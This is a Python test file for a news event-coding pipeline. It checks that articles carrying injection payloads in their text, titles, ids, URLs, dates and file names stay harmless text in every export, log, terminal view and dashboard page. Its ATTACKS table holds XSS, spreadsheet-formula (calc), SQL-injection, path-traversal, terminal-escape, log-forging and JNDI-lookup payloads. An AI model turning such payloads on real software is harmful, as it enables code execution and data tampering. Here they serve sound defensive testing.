"""Text that attacks whoever reads the output: through every output of a run it stays text, and no name of an article names a file."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import duckdb
import harness
import pandas as pd
import pytest
from typer.testing import CliRunner

from coders.parser import Parser
from flows.cli import app
from flows.pipeline import Settings, run

ATTACKS = {
    "HTML": "<img src=x onerror=alert(1)><script>alert('x')</script></script><svg/onload=alert(2)>",
    "entities": "&lt;script&gt;alert(3)&lt;/script&gt; &#60;script>",
    "formula": '=HYPERLINK("http://kwaad.example","klik")',
    "formulas": "@SUM(1+1)*cmd|' /C calc'!A0 +1-1",
    "SQL": "'; DROP TABLE events; -- \" OR 1=1",
    "path": "../../../../tmp/kwaad/../x%2e%2e%2f",
    "terminal": "\x1b[2J\x1b]0;kwaad\x07\x1b[31m\x9b31m rood",
    "log": "regel een\r\n2024-05-14 ERROR verzonnen\nWARNING nog een",
    "slash": "month=1999-01/part-0.parquet",
    "markdown": "[klik](javascript:alert(4)) | cel `code` ![x](http://kwaad.example/pixel) # kop",
    "rich": "[bold red]rood[/bold red] [link=http://kwaad.example]x[/link]",
    "template": "${jndi:ldap://kwaad.example} {{7*7}} $policy ${data} %s%n",
    "turned": "\u202egnp.exe\u2066 \u200bonzichtbaar\ufeff",
    "null": "\x00nul",
}
EVENT = "Duitsland steunt Frankrijk."
ESCAPES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
COMMANDS = ("csv", "jsonl", "parquet", "gdelt-tsv", "phoenix", "icews", "plover")


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """(output, what was printed) of `cameo-nl run` over articles that attack with their text, title, source, id, URL and date."""
    folder = tmp_path_factory.mktemp("injection")
    lines = []
    for number, (name, attack) in enumerate(ATTACKS.items()):
        good = {"text": f"{EVENT} {attack}. Rusland valt Oekraïne aan, {attack}, en Polen.", "date": "2024-05-14"}
        lines.append({**good, "title": attack, "source": attack, "url": f"https://krant.example/{number}?{attack}"})
        lines.append({**good, "id": attack, "title": f"Kop {name}"})
        lines.append({**good, "url": attack, "date": "2024-05-15"})
        lines.append({**good, "date": attack})
        lines.append({"text": 7, "id": attack, "date": "2024-05-14"})
    (folder / "in").mkdir()
    (folder / "in" / "a.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    (folder / "in" / "\x1b[31mkwaad\n<b>=1.txt").write_text(f" date 2024-05-16 {EVENT}", encoding="utf-8")
    (folder / "in" / "\x1b[31mleeg\nERROR <b>.txt").touch()
    for name in (b"caf\xe9.txt", b"caf\xe9.csv", b"caf\xe9.jsonl", b"caf\xe9.parquet", b"caf\xe9.html"):
        Path(os.fsdecode(bytes(folder / "in") + b"/" + name)).write_bytes(b" date 2024-05-17 " + EVENT.encode() + b"\xff")
    Path(os.fsdecode(bytes(folder / "in") + b"/caf\xe9goed.txt")).write_bytes(b" date 2024-05-17 " + EVENT.encode())
    output = folder / "out"
    line = [*harness.command(output, folder / "in" / "a.jsonl", folder / "in")]
    done = subprocess.run(line, cwd=harness.ROOT, env=harness.environment(), capture_output=True, text=True, check=False)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    dashboard = [sys.executable, "-m", "flows.cli", "dashboard", "--output", str(output)]
    made = subprocess.run(dashboard, cwd=harness.ROOT, env=harness.environment(), capture_output=True, text=True, check=False)
    assert made.returncode == 0, made.stderr
    harness.TALLY.append(f"injection: {len(ATTACKS)} attacks by text, title, source, id, URL and date through every output")
    return output, done.stdout + done.stderr + made.stdout + made.stderr


def test_parquet_holds_the_text_as_it_was_and_partitions_are_months(told: tuple[Path, str]) -> None:
    output, _ = told
    articles = pd.read_parquet(output / "articles")
    assert len(articles) >= 3 * len(ATTACKS) - 3
    assert set(articles["month"].astype(str)) == {"2024-05"}
    assert articles["Path"].str.endswith("\\xe9goed.txt").any()
    assert ATTACKS["SQL"] in set(articles["Url"])
    mentions = pd.read_parquet(output / "mentions")
    assert mentions["Sentence"].str.contains("<script>").any()
    harness.sound(output)


def test_no_name_that_an_article_gives_names_a_file(told: tuple[Path, str]) -> None:
    output, _ = told
    names = [path.relative_to(output).as_posix() for path in output.rglob("*")]
    assert names
    for name in names:
        assert re.fullmatch(r"[\w./=-]+", name), name
        assert "kwaad" not in name
        assert ".." not in name
    assert not Path("/tmp/kwaad").exists()
    assert {path.name for path in output.parent.iterdir()} == {"in", "out"}


def test_logs_and_terminal_show_control_characters_and_obey_none(told: tuple[Path, str]) -> None:
    """No escape reaches the terminal, and no line of the log is one that an article wrote."""
    _, printed = told
    assert "skipped" in printed
    assert not ESCAPES.search(printed), repr(ESCAPES.search(printed))
    assert not re.search(r"^(2024-05-14 ERROR|WARNING nog een|ERROR <b>)", printed, re.MULTILINE)
    assert r"\x1b[31mleeg\nERROR" in printed


@pytest.mark.parametrize("kind", COMMANDS)
@pytest.mark.parametrize("table", ["events", "mentions"])
def test_exports_can_be_read_and_start_no_formula(kind: str, table: str, told: tuple[Path, str], tmp_path: Path) -> None:
    output, _ = told
    target = tmp_path / "export"
    done = CliRunner().invoke(app, ["export", str(target), "--format", kind, "--table", table, "--output", str(output)])
    assert done.exit_code == 0, done.output
    if kind == "parquet":
        assert len(pd.read_parquet(target)) > 0
        return
    text = target.read_bytes().decode("utf-8")
    if kind == "jsonl":
        rows: list[Any] = [json.loads(line) for line in text.split("\n") if line]
        assert rows
        return
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if kind == "csv" else "\t"))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        number = cell.lstrip("-").replace(".", "", 1).replace("e-", "", 1).isdigit()
        assert number or cell == "---" or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
        assert kind == "csv" or not ESCAPES.search(cell)


def test_manifests_and_rejects_are_json_with_a_line_each(told: tuple[Path, str]) -> None:
    output, _ = told
    (rejected,) = (output / "rejected").glob("*.jsonl")
    lines = rejected.read_bytes().split(b"\n")[:-1]
    assert all(json.loads(line)["reason"] for line in lines)
    assert len(lines) >= 2 * len(ATTACKS)
    (manifest,) = (output / "runs").glob("*.json")
    assert len(json.loads(manifest.read_bytes())["rejected"]) == len(lines)


def test_artifacts_hold_no_markup_of_an_article(told: tuple[Path, str]) -> None:
    from flows.article import Reject
    from flows.runs import Summary

    page = Summary(run="r", rejects=[Reject(attack, attack) for attack in ATTACKS.values()], repaired=list(ATTACKS.values())).markdown({})
    assert "<" not in re.sub(r"&lt;", "", page)
    assert not re.search(r"(?<!\\)\[(klik|x)\]\(", page)
    assert not ESCAPES.search(page)
    assert not re.search(r"^(WARNING|2024-05-14 ERROR|# kop)", page, re.MULTILINE)


def test_feeds_are_json_csv_and_geojson_whatever_they_carry(told: tuple[Path, str]) -> None:
    output, _ = told
    found = [path for path in (output / "feed").rglob("*") if path.suffix in (".json", ".geojson", ".csv")]
    assert len(found) >= 4
    for path in found:
        text = path.read_text(encoding="utf-8")
        if path.suffix == ".csv":
            for row in csv.reader(io.StringIO(text, newline="")):
                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
        else:
            json.loads(text)


def test_the_page_runs_no_script_of_an_article(told: tuple[Path, str]) -> None:
    """Nothing that an article wrote is markup in the page; its policy names every script that may run."""
    output, _ = told
    html = (output / "feed" / "dashboard.html").read_text(encoding="utf-8")
    assert "Content-Security-Policy" in html
    assert "<img src=x" not in html
    assert "<svg/onload" not in html
    assert "alert('x')</script>" not in html
    assert "${data}" not in html.replace("\\u003c", "<").split("</style>")[0]


def test_the_page_in_a_real_browser_raises_no_alert(told: tuple[Path, str]) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    chromium = next((path for path in ("/usr/bin/chromium", "/usr/bin/google-chrome") if Path(path).exists()), None)
    if chromium is None:
        pytest.skip("there is no Chromium here")
    output, _ = told
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        alerts: list[str] = []
        requests: list[str] = []
        page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: requests.append(request.url))
        page.goto((output / "feed" / "dashboard.html").as_uri())
        page.wait_for_timeout(1500)
        assert "Duitsland" in page.content() or "DEU" in page.content()
        assert page.evaluate("document.querySelectorAll('img[src=x], svg[onload]').length") == 0
        browser.close()
    assert alerts == []
    assert [url for url in requests if not url.startswith(("file:", "data:", "blob:"))] == []


def test_the_why_page_and_the_terminal_of_explain(tmp_path: Path) -> None:
    for name in ("HTML", "rich", "terminal", "turned"):
        page = tmp_path / f"{name}.html"
        done = CliRunner().invoke(app, ["explain", f"{EVENT} {ATTACKS[name]}", "--date", "2024-05-14", "--html", str(page)])
        assert done.exit_code == 0, done.output
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        shown = CliRunner().invoke(app, ["explain", f"{EVENT} {ATTACKS[name]}", "--date", "2024-05-14"])
        assert shown.exit_code == 0, shown.output
        assert not ESCAPES.search(shown.output), (name, repr(ESCAPES.search(shown.output)))


def test_sql_in_an_article_is_text_to_a_database(told: tuple[Path, str]) -> None:
    output, _ = told
    table = f"read_parquet('{output}/articles/**/*.parquet', hive_partitioning=true)"
    assert duckdb.execute(f"select count(*) from {table} where Url = ?", [ATTACKS["SQL"]]).fetchall() == [(1,)]


def test_forget_takes_an_address_for_text_alone(told: tuple[Path, str]) -> None:
    output, _ = told
    for attack in (ATTACKS["SQL"], ATTACKS["path"], "*", "%", "' or ''='"):
        done = CliRunner().invoke(app, ["forget", f"niet {attack}", "--output", str(output)])
        assert done.exit_code == 1
        assert "no such article" in done.output


def test_code_answers_each_line_with_one_line(tmp_path: Path, parser: Parser) -> None:
    lines = [json.dumps({"id": attack, "date": "2024-05-14", "text": f"{EVENT} {attack}"}) for attack in ATTACKS.values()]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = CliRunner().invoke(app, ["code", "--input", str(tmp_path / "in.jsonl"), "--output", str(tmp_path / "uit.jsonl")])
    assert done.exit_code in (0, 1), done.output
    answers = (tmp_path / "uit.jsonl").read_bytes().split(b"\n")[:-1]
    assert [json.loads(answer)["id"] for answer in answers] == list(ATTACKS.values())
    assert all(json.loads(answer)["events"] for answer in answers)


def test_an_article_is_known_by_a_hash_whatever_its_id(tmp_path: Path, parser: Parser) -> None:
    (tmp_path / "a.jsonl").write_text(json.dumps({"id": "../../x", "date": "2024-05-14", "text": EVENT}) + "\n", encoding="utf-8")
    run(Settings((str(tmp_path / "a.jsonl"),), str(tmp_path / "out")))
    ids = pd.read_parquet(tmp_path / "out" / "articles")["ArticleId"]
    assert ids.str.fullmatch(r"[0-9a-f]{16}").all()
